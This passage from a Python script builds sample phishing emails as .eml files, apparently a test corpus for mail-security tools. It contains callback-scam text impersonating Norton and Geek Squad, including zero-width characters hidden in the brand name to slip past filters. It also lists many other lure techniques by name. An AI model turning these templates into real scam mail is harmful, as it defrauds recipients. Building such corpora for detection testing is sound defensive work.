Amount: $399.99
Payment Method: Auto-Debit

If you did not authorize this charge or wish to cancel your subscription, please call our billing
department within 24 hours at +1 (808) 555-0199 for a full refund.

Thanks,
Billing Department
Norton LifeLock Inc.
"""
    build(P + "30_callback_norton_renewal_gmail.eml", frm="Billing Support <billingdept.nlk4471@gmail.com>",
          subject="Your subscription has been renewed - Invoice NLK-88420193", date="Wed, 26 Nov 2025 14:21:09 +0000",
          msgid="<CAM8qLx-9f2eNn0q4GfS0n1u@mail.gmail.com>",
          received=r("mail-ot1-f41.google.com", "209.85.210.41", "Wed, 26 Nov 2025 14:21:10 +0000"),
          dkim_domain="gmail.com", text=text)


def callback_geek_squad_hidden_chars() -> None:
    zw = "\u200b"
    html = f"""<html><body style="font-family:Arial"><table width="600"><tr><td>
<p style="font-size:20px"><b>Ge{zw}ek Sq{zw}uad</b> Order Confirmation</p>
<p>Hello Alex,</p>
<p>Your Ge{zw}ek Sq{zw}uad Total Tech Support plan has been renewed for another year. The amount of $349.99 will be charged to your card on file within 24 hours.</p>
<table border="1" cellpadding="6" style="border-collapse:collapse"><tr><td>Order ID</td><td>GS-7781-2025</td></tr>
<tr><td>Plan</td><td>Total Tech Support - 2 Years</td></tr><tr><td>Total</td><td>$349.99</td></tr></table>
<p>To cancel the order or to request a refund, call our support desk: <b>1-888-555-0147</b> (Mon-Sat 9am-6pm).</p>
<p>Thank you for being a valued customer.</p></td></tr></table></body></html>"""
    build(P + "31_callback_geek_squad_hidden_chars.eml", frm="Geek Squad <orders@gs-renewals-desk.example>",
          subject="Order Confirmation #GS-7781-2025", date="Thu, 27 Nov 2025 16:40:00 +0000",
          msgid="<gs-7781-2025@gs-renewals-desk.example>",
          received=r("mail.gs-renewals-desk.example", "198.51.100.147", "Thu, 27 Nov 2025 16:40:01 +0000"),
          dkim_domain="gs-renewals-desk.example", html=html)


def all_phish() -> None:
    for f in (m365_password_expiry, outlook_mailbox_full, mfa_reregister_workers, docusign_lure,
              sharepoint_compromised_tenant, html_attachment_form, html_smuggling_zip, voicemail_html_redirect,
              qr_inline_png, qr_in_pdf, invoice_xlsm, invoice_iso, dhl_zip_exe, ceo_gift_card, ceo_gift_card_reply_to,
              payroll_diversion, vendor_bank_change, usps_lookalike, paypal_punycode, chase_text_mismatch, oauth_consent,
              coinbase_crypto, crypto_airdrop, german_sparkasse, french_colis, spanish_santander,
              safelinks_wrapped_phish, google_open_redirect, netflix_payment, callback_norton_gmail,
              callback_geek_squad_hidden_chars):
        f()
